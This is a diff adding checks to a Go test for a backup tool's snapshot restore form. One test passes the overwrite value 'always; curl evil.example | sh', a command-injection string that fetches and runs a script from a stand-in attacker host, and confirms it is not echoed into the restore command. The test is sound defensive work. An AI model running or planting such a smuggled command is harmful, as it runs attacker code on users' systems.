@@ -150,6 +150,12 @@ func TestRestoreForms(t *testing.T) {
 	}
 	at := "/snapshots/" + id + "/restore?path=/"
 	in := "to=" + url.QueryEscape(s.to)
+	if _, body := s.get(t, cookie, at+"&overwrite="+url.QueryEscape("always; curl evil.example | sh")); strings.Contains(body, "evil") || !strings.Contains(body, "coffer restore ") {
+		t.Errorf("the command is that of the address:\n%s", body)
+	}
+	if _, body := s.get(t, cookie, at+"&overwrite=older"); !strings.Contains(body, " --overwrite older") {
+		t.Errorf("the command lacks the mode:\n%s", body)
+	}
 	foreign := func(r *http.Request) { r.Header.Set("Sec-Fetch-Site", "cross-site") }
 	for _, c := range []struct {
 		path, body string
